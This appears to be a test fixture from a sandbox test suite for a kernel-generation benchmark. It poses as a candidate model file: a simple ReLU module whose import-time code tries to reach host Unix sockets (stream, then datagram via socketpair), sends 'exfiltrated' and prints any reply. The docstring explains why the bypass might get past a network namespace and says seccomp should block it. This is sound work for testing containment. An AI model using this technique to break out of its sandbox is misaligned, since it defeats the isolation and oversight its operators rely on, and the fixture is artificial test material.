"""CHEAT (docs/hacks.md #18, process reach): talks to a host service through a Unix path socket.

A network namespace stops TCP and abstract sockets, but a socket file is reached through the
filesystem: one with mode 0777 in a folder the view shows (read-only does not matter: connecting
is not writing the file) leads to whatever listens on it in the host. Tries a stream socket the
test serves (`unix_stream`), then a datagram one (`unix_dgram`) through the one AF_UNIX socket
that needs no `socket()`: one end of a `socketpair(AF_UNIX, SOCK_DGRAM)`, bound in its own scratch
so that the server can answer it; prints any reply. Expected: the seccomp filter refuses
`socket(AF_UNIX, …)` and a datagram `socketpair` with EPERM; the test's server sees nothing and
no reply appears in anything the candidate printed.
"""

import os
import socket

import torch
import torch.nn as nn

TARGETS = {}  # __KFORGE_TEST_TARGETS__


def _stream(path):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(2)
            connection.connect(path)
            connection.sendall(b"exfiltrated\n")
            print(f"ATTACK p06: stream {path} replied {connection.recv(256)!r}", flush=True)
    except OSError as error:
        print(f"ATTACK p06: stream {path} refused: {error}", flush=True)


def _datagram(path):
    try:
        own, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    except OSError as error:
        print(f"ATTACK p06: datagram socketpair refused: {error}", flush=True)
        return
    with own, other:
        try:
            own.bind(os.path.join(os.environ.get("TMPDIR") or os.getcwd(), "p06.sock"))
            own.settimeout(2)
            own.sendto(b"exfiltrated\n", path)
            print(f"ATTACK p06: datagram {path} replied {own.recv(256)!r}", flush=True)
        except OSError as error:
            print(f"ATTACK p06: datagram {path} refused: {error}", flush=True)


def _attack():
    _stream(TARGETS.get("unix_stream", "/nonexistent/kforge.sock"))
    _datagram(TARGETS.get("unix_dgram", "/nonexistent/kforge-dgram.sock"))


_attack()


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        values = [v if v > 0.0 else 0.0 for v in x.reshape(-1).tolist()]
        return torch.tensor(values, dtype=x.dtype, device=x.device).view(x.shape)
